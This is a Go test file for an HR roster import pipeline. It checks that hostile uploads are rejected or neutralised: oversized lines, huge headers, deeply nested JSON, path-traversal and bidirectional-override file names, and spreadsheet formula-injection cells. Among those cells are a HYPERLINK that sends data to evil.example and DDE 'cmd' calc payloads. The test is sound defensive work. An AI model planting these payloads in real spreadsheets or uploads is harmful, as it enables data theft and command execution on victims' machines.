package stages_test

// Hostile inputs (issue #8): files built to exhaust memory, time or the
// ledger, or to smuggle formulas into the customer's spreadsheet, each run
// through the real pipeline (fetch → … → report) against PostgreSQL and the
// embedded server's store on disk. Every one must end in a coded outcome,
// promptly, without a panic and without holding the file in memory.

import (
	"bufio"
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/csv"
	"fmt"
	"io/fs"
	"net"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/jmoiron/sqlx"
	"github.com/pkg/sftp"
	"golang.org/x/crypto/ssh"

	"github.com/roster-hr/roster/pipeline"
	"github.com/roster-hr/roster/pipeline/pgtest"
	"github.com/roster-hr/roster/sftpd"
	"github.com/roster-hr/roster/stages"
	"github.com/roster-hr/roster/stages/fetch/store"
	"github.com/roster-hr/roster/stages/report"
)

// hostileRun uploads body as name to a fresh tenant's incoming/ and runs
// the whole pipeline on it, as the poller would.
type hostileRun struct {
	res     *pipeline.Result
	f       *pipeline.File
	home    string
	took    time.Duration
	peak    uint64 // highest heap in use during the run, over the heap before
	alloced uint64 // bytes allocated during the run
}

func runHostile(t *testing.T, db *sqlx.DB, tenant, name string, write func(w *bufio.Writer)) hostileRun {
	t.Helper()
	ctx := context.Background()
	putTenant(t, db, tenant, nil)
	home := t.TempDir()
	in := filepath.Join(home, "incoming")
	if err := os.MkdirAll(in, 0o750); err != nil {
		t.Fatal(err)
	}
	out, err := os.Create(filepath.Join(in, name))
	if err != nil {
		t.Fatal(err)
	}
	w := bufio.NewWriterSize(out, 1<<20)
	write(w)
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if err := out.Close(); err != nil {
		t.Fatal(err)
	}
	st := store.Local(home)
	list, err := st.List(ctx)
	if err != nil || len(list) != 1 {
		t.Fatalf("list incoming: %v, %v", list, err)
	}
	rf := list[0]
	staging := t.TempDir()
	rn := &pipeline.Runner{DB: db, Registry: stages.Registry(), StagingDir: staging, Log: quiet}

	// Heap in use is sampled while the run goes; the baseline is taken
	// after a collection so that garbage of earlier cases does not count.
	runtime.GC()
	var before runtime.MemStats
	runtime.ReadMemStats(&before)
	var peak uint64
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		var ms runtime.MemStats
		for {
			runtime.ReadMemStats(&ms)
			peak = max(peak, ms.HeapAlloc)
			select {
			case <-stop:
				return
			case <-time.After(2 * time.Millisecond):
			}
		}
	}()
	started := time.Now()
	res, err := rn.Run(ctx, pipeline.Request{Tenant: tenant, Store: st, LogicalDate: day(t, defaultDate),
		Files: []*pipeline.File{{Name: rf.Name, Source: rf.Name, Remote: true, Size: rf.Size, ModTime: rf.ModTime}}})
	took := time.Since(started)
	close(stop)
	wg.Wait()
	var after runtime.MemStats
	runtime.ReadMemStats(&after)
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	if len(res.Files) != 1 {
		t.Fatalf("%d files in the result", len(res.Files))
	}
	// Staging keeps the bytes as received; the big cases must not leave
	// hundreds of megabytes behind for the next case.
	os.RemoveAll(staging) //nolint:errcheck
	h := hostileRun{res: res, f: res.Files[0], home: home, took: took, alloced: after.TotalAlloc - before.TotalAlloc}
	if peak > before.HeapAlloc {
		h.peak = peak - before.HeapAlloc
	}
	return h
}

func repeatTo(w *bufio.Writer, s string, n int) {
	for i := 0; i < n; i++ {
		w.WriteString(s) //nolint:errcheck // bufio over a file, checked at Flush
	}
}

// TestHostileInputs: each file-level hostile input ends in its coded
// outcome, the file is moved to /failed with a report, nothing is applied,
// and it takes bounded time and memory.
func TestHostileInputs(t *testing.T) {
	db, _ := pgtest.New(t)
	const bigLine = 200 << 20
	cases := []struct {
		name     string
		file     string
		write    func(w *bufio.Writer)
		code     string
		contains []string
		maxTime  time.Duration
		maxHeap  uint64 // bytes over the baseline; 0: not checked
		maxAlloc uint64 // bytes allocated in all; 0: not checked
	}{
		{
			name: "a single 200 MB line", file: "users.csv",
			write: func(w *bufio.Writer) {
				w.WriteString("email,first_name,last_name\nada@example.com,Ada,") //nolint:errcheck
				chunk := strings.Repeat("x", 1<<20)
				repeatTo(w, chunk, bigLine>>20)
				w.WriteString("\n") //nolint:errcheck
			},
			code:     "malformed_csv",
			contains: []string{"row 2 is longer than 1048576 bytes"},
			maxTime:  60 * time.Second,
			// The line is never held whole: a few MiB of buffers (the
			// record limit plus read-ahead), far below one copy of the
			// line; without the limit encoding/csv holds it three times.
			maxHeap:  48 << 20,
			maxAlloc: 48 << 20,
		},
		{
			name: "a single 200 MB JSON object", file: "users.json",
			write: func(w *bufio.Writer) {
				w.WriteString(`[{"email":"ada@example.com","first_name":"Ada","last_name":"`) //nolint:errcheck
				repeatTo(w, strings.Repeat("x", 1<<20), bigLine>>20)
				w.WriteString(`"}]`) //nolint:errcheck
			},
			code:     "malformed_csv",
			contains: []string{"object 1 of the JSON array is longer than 1048576 bytes"},
			maxTime:  60 * time.Second,
			maxHeap:  48 << 20,
			maxAlloc: 48 << 20,
		},
		{
			name: "a header of 100,000 columns", file: "users.csv",
			write: func(w *bufio.Writer) {
				w.WriteString("email,first_name,last_name") //nolint:errcheck
				for i := 4; i <= 100_000; i++ {
					fmt.Fprintf(w, ",c%d", i)
				}
				w.WriteString("\nada@example.com,Ada,Lovelace\n") //nolint:errcheck
			},
			code:     "malformed_csv",
			contains: []string{"the header has 100000 columns, more than the 1000 roster reads"},
			maxTime:  30 * time.Second,
		},
		{
			name: "NUL bytes", file: "users.csv",
			write: func(w *bufio.Writer) {
				w.WriteString("email,first_name,last_name\n") //nolint:errcheck
				for i := 0; i < 100; i++ {
					fmt.Fprintf(w, "u%d@example.com,First,Last\n", i)
				}
				w.WriteString("nul@example.com,Nu\x00l,Byte\n") //nolint:errcheck
			},
			code:     "invalid_encoding",
			contains: []string{"line 102 contains a NUL byte"},
			maxTime:  30 * time.Second,
		},
		{
			name: "invalid UTF-8 in the middle", file: "users.csv",
			write: func(w *bufio.Writer) {
				w.WriteString("email,first_name,last_name\n") //nolint:errcheck
				for i := 0; i < 20_000; i++ {
					last := "Last"
					if i == 9_999 {
						last = "M\xfcller" // Latin-1 ü
					}
					fmt.Fprintf(w, "u%d@example.com,First,%s\n", i, last)
				}
			},
			code:     "invalid_encoding",
			contains: []string{"line 10001 is not valid UTF-8"},
			maxTime:  30 * time.Second,
		},
		{
			name: "deeply nested JSON arrays", file: "users.json",
			write: func(w *bufio.Writer) { repeatTo(w, "[", 100_000) },
			code:  "malformed_csv", contains: []string{"JSON is not valid"},
			maxTime: 30 * time.Second,
		},
		{
			name: "deeply nested JSON objects", file: "users.json",
			write: func(w *bufio.Writer) {
				w.WriteString(`[{"email":"ada@example.com","first_name":`) //nolint:errcheck
				repeatTo(w, `{"a":`, 100_000)
				w.WriteString("1") //nolint:errcheck
				repeatTo(w, "}", 100_000)
				w.WriteString(`}]`) //nolint:errcheck
			},
			code: "malformed_csv", contains: []string{"JSON is not valid", "exceeded max depth"},
			maxTime: 30 * time.Second,
		},
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			h := runHostile(t, db, fmt.Sprintf("hostile-%d", i), c.file, c.write)
			f := h.f
			t.Logf("%s: %s in %s, heap +%.1f MiB, %.1f MiB allocated", f.Status, c.code, h.took.Round(time.Millisecond),
				float64(h.peak)/(1<<20), float64(h.alloced)/(1<<20))
			if f.Status != pipeline.StatusRejected || h.res.FailureClass != pipeline.ClassData {
				t.Fatalf("file %s (run %s/%s), want rejected as data: %v", f.Status, h.res.Status, h.res.FailureClass, f.Err)
			}
			list := f.Issues.List()
			if len(list) != 1 || list[0].Code != c.code {
				t.Fatalf("issues %+v, want one %s", list, c.code)
			}
			for _, s := range c.contains {
				if !strings.Contains(list[0].Message, s) {
					t.Errorf("message %q lacks %q", list[0].Message, s)
				}
			}
			if h.took > c.maxTime {
				t.Errorf("took %s, over %s", h.took, c.maxTime)
			}
			if c.maxHeap > 0 && h.peak > c.maxHeap {
				t.Errorf("heap grew by %d MiB during the run, over %d MiB", h.peak>>20, c.maxHeap>>20)
			}
			if c.maxAlloc > 0 && h.alloced > c.maxAlloc {
				t.Errorf("%d MiB allocated during the run, over %d MiB", h.alloced>>20, c.maxAlloc>>20)
			}
			var users int
			if err := db.Get(&users, `SELECT count(*) FROM users WHERE tenant_id = $1`, h.res.Tenant); err != nil || users != 0 {
				t.Errorf("%d users applied (%v)", users, err)
			}
			var code string
			if err := db.Get(&code, `SELECT error_code FROM run_files WHERE id = $1`, f.ID); err != nil || code != c.code {
				t.Errorf("ledger error_code %q (%v)", code, err)
			}
			if _, err := os.Stat(filepath.Join(h.home, "failed", c.file)); err != nil {
				t.Errorf("the upload is not in /failed: %v", err)
			}
			rep, err := os.ReadFile(filepath.Join(h.home, "reports", report.Name(c.file)))
			if err != nil || !bytes.Contains(rep, []byte(c.code)) {
				t.Errorf("report: %v\n%.500s", err, rep)
			}
			os.RemoveAll(h.home) //nolint:errcheck // the 200 MB upload
		})
	}
}

// TestHostileEveryRowWrong: a file where every one of 200,000 rows has an
// error keeps exactly 10,000 issues in the ledger and the report, with exact
// totals, and the report's last line says how many more there were.
func TestHostileEveryRowWrong(t *testing.T) {
	db, _ := pgtest.New(t)
	const rows = 200_000
	h := runHostile(t, db, "every-row-wrong", "users.csv", func(w *bufio.Writer) {
		w.WriteString("email,first_name,last_name\n") //nolint:errcheck
		for i := 0; i < rows; i++ {
			fmt.Fprintf(w, "not-an-email-%d,First,Last\n", i)
		}
	})
	f := h.f
	t.Logf("%s, %d errors, in %s", f.Status, f.Issues.Errors, h.took.Round(time.Millisecond))
	if f.Issues.Errors != rows || f.Issues.Truncated() != rows-pipeline.DefaultIssueLimit {
		t.Fatalf("errors %d, truncated %d", f.Issues.Errors, f.Issues.Truncated())
	}
	var kept, errs int
	if err := db.Get(&kept, `SELECT count(*) FROM issues WHERE file_id = $1`, f.ID); err != nil {
		t.Fatal(err)
	}
	if err := db.Get(&errs, `SELECT errors FROM run_files WHERE id = $1`, f.ID); err != nil {
		t.Fatal(err)
	}
	if kept != pipeline.DefaultIssueLimit || errs != rows {
		t.Fatalf("ledger: %d issues kept, run_files.errors %d; want %d and %d", kept, errs, pipeline.DefaultIssueLimit, rows)
	}
	rep, err := os.ReadFile(filepath.Join(h.home, "reports", report.Name("users.csv")))
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(rep, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1+pipeline.DefaultIssueLimit+1 {
		t.Fatalf("report has %d lines, want header + %d + closing line", len(recs), pipeline.DefaultIssueLimit)
	}
	last := recs[len(recs)-1]
	want := fmt.Sprintf("%d more issues (%d errors", rows-pipeline.DefaultIssueLimit, rows)
	if last[2] != "issues_truncated" || !strings.Contains(last[4], want) {
		t.Fatalf("last line %q, want issues_truncated saying %q", last, want)
	}
	if len(rep) > 4<<20 {
		t.Errorf("report is %d bytes", len(rep))
	}
}

// TestHostileFormulaCells: values a spreadsheet would run as formulas come
// back in the report neutralised (prefixed with '), wherever they appear.
func TestHostileFormulaCells(t *testing.T) {
	db, _ := pgtest.New(t)
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"}
	h := runHostile(t, db, "formulas", "users.csv", func(w *bufio.Writer) {
		cw := csv.NewWriter(w)
		cw.Write([]string{"email", "first_name", "last_name", "start_date", payloads[0]}) //nolint:errcheck
		for i, p := range payloads {
			cw.Write([]string{p, "First", "Last", "", ""})                                 //nolint:errcheck
			cw.Write([]string{fmt.Sprintf("ok%d@example.com", i), "First", "Last", p, ""}) //nolint:errcheck
		}
		cw.Flush()
	})
	rep, err := os.ReadFile(filepath.Join(h.home, "reports", report.Name("users.csv")))
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(rep, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	seen := 0
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("report cell %q would run as a formula", cell)
			}
			for _, p := range payloads {
				if strings.EqualFold(cell, "'"+p) { // e-mails come back lower-cased
					seen++
				}
			}
		}
	}
	// Each payload as an invalid e-mail and an invalid date, the header
	// payload as an unknown column.
	if seen < 2*len(payloads)+1 {
		t.Errorf("only %d neutralised payload cells in the report:\n%s", seen, rep)
	}
}

// keyAuth authorises one public key for every tenant.
type keyAuth struct{ key ssh.PublicKey }

func (keyAuth) CheckPassword(context.Context, string, []byte) (bool, error) { return false, nil }
func (a keyAuth) AuthorizedKeys(context.Context, string) ([]ssh.PublicKey, error) {
	return []ssh.PublicKey{a.key}, nil
}

// TestHostileFileNames: names with newlines, "..", bidirectional overrides
// and look-alike characters. The embedded server refuses the ones that
// could escape the home or disguise a name; look-alikes are only names, and
// are processed and reported under their own name. Names the server would
// refuse but that reach the store anyway (planted on disk, or from a
// customer's own server) are processed too, and their reports get a name
// the server lists.
func TestHostileFileNames(t *testing.T) {
	db, _ := pgtest.New(t)
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	dataDir := t.TempDir()
	_, priv, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := ssh.NewSignerFromKey(priv)
	if err != nil {
		t.Fatal(err)
	}
	srv, err := sftpd.New(filepath.Join(dataDir, "sftp"), keyAuth{signer.PublicKey()}, sftpd.WithLogger(quiet))
	if err != nil {
		t.Fatal(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	served := make(chan error, 1)
	go func() { served <- srv.Serve(ctx, ln) }()
	defer func() { cancel(); <-served }()
	putTenant(t, db, "names", nil)
	conn, err := ssh.Dial("tcp", ln.Addr().String(), &ssh.ClientConfig{User: "names", Auth: []ssh.AuthMethod{ssh.PublicKeys(signer)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second}) //nolint:gosec // a test server on loopback
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	sc, err := sftp.NewClient(conn)
	if err != nil {
		t.Fatal(err)
	}
	defer sc.Close()

	n := 0
	body := func() []byte { // a user file with one bad row, so that it gets a report
		n++
		return fmt.Appendf(nil, "email,first_name,last_name\nu%d@example.com,Ada,Lovelace\nbad%d,Bad,Row\n", n, n)
	}
	put := func(p string) error {
		f, err := sc.Create(p)
		if err != nil {
			return err
		}
		if _, err := f.Write(body()); err != nil {
			f.Close()
			return err
		}
		return f.Close()
	}
	home := filepath.Join(dataDir, "sftp", "names")
	for _, p := range []string{
		"/incoming/users\n.csv",              // a newline
		"/incoming/users.csv\r",              // a CR
		"/incoming/users.csv\u202e",          // RIGHT-TO-LEFT OVERRIDE at the end
		"/incoming/users\u202evsc.exe",       // shows as "usersexe.csv"
		"/incoming/..",                       // the folder above
		"/incoming/../users.csv",             // cleaned to /users.csv: not a folder one may write to
		"/incoming/../../../../tmp/evil.csv", // cleaned to /tmp/evil.csv: outside the home's folders
		"/incoming/..users.csv",              // a dot-name
		"/incoming/..\\..\\users.csv",        // a Windows path
	} {
		if err := put(p); err == nil {
			t.Errorf("upload to %q accepted", p)
		}
	}
	if _, err := os.Stat("/tmp/evil.csv"); err == nil {
		t.Fatal("/tmp/evil.csv was written")
	}
	lookAlikes := []string{"ｕsers.csv", "usеrs.csv", "users.csv\u200b", "users．csv", "ᴜsers.csv"} // fullwidth u, Cyrillic е, zero-width space, fullwidth full stop, small capital U
	for _, name := range lookAlikes {
		if err := put("/incoming/" + name); err != nil {
			t.Errorf("upload of look-alike %q: %v", name, err)
		}
	}
	got, err := sc.ReadDir("/incoming")
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != len(lookAlikes) {
		var names []string
		for _, fi := range got {
			names = append(names, fi.Name())
		}
		t.Fatalf("/incoming holds %q, want only the look-alikes", names)
	}
	// Names the server refuses, planted on disk as another process (or a
	// customer's own SFTP server, with --store) could leave them.
	planted := map[string]string{ // name -> its report's name
		"users\n.csv":          "users .csv.report.csv",
		"users\u202evsc.exe":   "users vsc.exe.report.csv",
		"users\u2028more.csv":  "users more.csv.report.csv",
		"users.csv\x1b[31mred": "users.csv [31mred.report.csv",
	}
	i := 0
	for name := range planted {
		i++
		// A distinct modification time: files with the same report name
		// must not race each other in one listing (they are applied in order).
		p := filepath.Join(home, "incoming", name)
		if err := os.WriteFile(p, body(), 0o640); err != nil {
			t.Fatal(err)
		}
		mt := time.Now().Add(time.Duration(i) * time.Second)
		os.Chtimes(p, mt, mt) //nolint:errcheck
	}

	st := store.Local(home)
	list, err := st.List(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != len(lookAlikes)+len(planted) {
		t.Fatalf("the store lists %d files, want %d", len(list), len(lookAlikes)+len(planted))
	}
	var files []*pipeline.File
	for _, rf := range list {
		files = append(files, &pipeline.File{Name: rf.Name, Source: rf.Name, Remote: true, Size: rf.Size, ModTime: rf.ModTime})
	}
	rn := &pipeline.Runner{DB: db, Registry: stages.Registry(), StagingDir: filepath.Join(dataDir, "staging"), Log: quiet}
	res, err := rn.Run(ctx, pipeline.Request{Tenant: "names", Store: st, Files: files, LogicalDate: day(t, defaultDate)})
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != pipeline.RunPartial {
		t.Errorf("run %s (%s): %s", res.Status, res.FailureClass, res.Reason)
	}
	for _, f := range res.Files {
		if f.Status != pipeline.StatusApplied || f.Counts.Created != 1 || f.Issues.Errors != 1 {
			t.Errorf("%q: %s, %+v, %d errors (%v)", f.Name, f.Status, f.Counts, f.Issues.Errors, f.Err)
		}
		var stored string
		if err := db.Get(&stored, `SELECT name FROM run_files WHERE id = $1`, f.ID); err != nil || stored != f.Name {
			t.Errorf("ledger name %q (%v), want %q", stored, err, f.Name)
		}
		if _, err := os.Lstat(filepath.Join(home, "processed", f.Name)); err != nil {
			t.Errorf("%q not moved to processed/: %v", f.Name, err)
		}
	}
	// Every report is listed by the server, under the upload's own name for
	// look-alikes and under a cleaned one for the others.
	reports, err := sc.ReadDir("/reports")
	if err != nil {
		t.Fatal(err)
	}
	listed := map[string]bool{}
	for _, fi := range reports {
		listed[fi.Name()] = true
	}
	for _, name := range lookAlikes {
		if !listed[report.Name(name)] || report.Name(name) != name+".report.csv" {
			t.Errorf("report of %q not listed as %q (listed: %v)", name, name+".report.csv", listed)
		}
	}
	for name, want := range planted {
		if report.Name(name) != want {
			t.Errorf("report.Name(%q) = %q, want %q", name, report.Name(name), want)
		}
		if !listed[want] {
			t.Errorf("report of %q not listed as %q (listed: %v)", name, want, listed)
		}
	}
	// Nothing left the tenant's home: the data dir holds the host key, the
	// home and staging only.
	filepath.WalkDir(dataDir, func(p string, d fs.DirEntry, err error) error { //nolint:errcheck
		rel, _ := filepath.Rel(dataDir, p)
		if rel != "." && rel != "sftp" && rel != "ssh_host_ed25519_key" && rel != "staging" &&
			!strings.HasPrefix(rel, "sftp/names") && !strings.HasPrefix(rel, "staging/names") {
			t.Errorf("unexpected file %q in the data dir", rel)
		}
		return nil
	})
}

// TestHostileFileNamesStuck: names no upload through the embedded server
// can have (it refuses them) but that a customer's own SFTP server or a
// process on the host can leave in incoming/: invalid UTF-8, which
// PostgreSQL cannot store as the ledger's file name, and a backslash, which
// the store refuses to open. Such a file must not fail every run of the
// tenant as a system failure forever; it must leave incoming/.
func TestHostileFileNamesStuck(t *testing.T) {
	db, _ := pgtest.New(t)
	ctx := context.Background()
	for i, name := range []string{"users\xff\xfe.csv", `users\..\..\x.csv`} {
		t.Run(fmt.Sprintf("%q", name), func(t *testing.T) {
			tenant := fmt.Sprintf("stuck-%d", i)
			putTenant(t, db, tenant, nil)
			home := t.TempDir()
			os.MkdirAll(filepath.Join(home, "incoming"), 0o750) //nolint:errcheck
			if err := os.WriteFile(filepath.Join(home, "incoming", name), []byte("email,first_name,last_name\na@example.com,A,B\n"), 0o640); err != nil {
				t.Fatal(err)
			}
			st := store.Local(home)
			list, err := st.List(ctx)
			if err != nil {
				t.Fatal(err)
			}
			var files []*pipeline.File
			for _, rf := range list {
				files = append(files, &pipeline.File{Name: rf.Name, Source: rf.Name, Remote: true, Size: rf.Size, ModTime: rf.ModTime})
			}
			if len(files) == 0 {
				return // not listed at all: nothing to block
			}
			rn := &pipeline.Runner{DB: db, Registry: stages.Registry(), StagingDir: t.TempDir(), Log: quiet}
			res, err := rn.Run(ctx, pipeline.Request{Tenant: tenant, Store: st, Files: files, LogicalDate: day(t, defaultDate)})
			if err != nil {
				t.Fatal(err)
			}
			t.Logf("run %s (%s): %s; file %s", res.Status, res.FailureClass, res.Reason, res.Files[0].Status)
			_, still := os.Lstat(filepath.Join(home, "incoming", name))
			if res.FailureClass == pipeline.ClassSystem && still == nil {
				t.Fatalf("the file fails the tenant's runs as a system failure and stays in incoming/: %s", res.Reason)
			}
			if still == nil {
				t.Errorf("the file is still in incoming/ after a %s run (%s)", res.Status, res.Reason)
			}
		})
	}
}
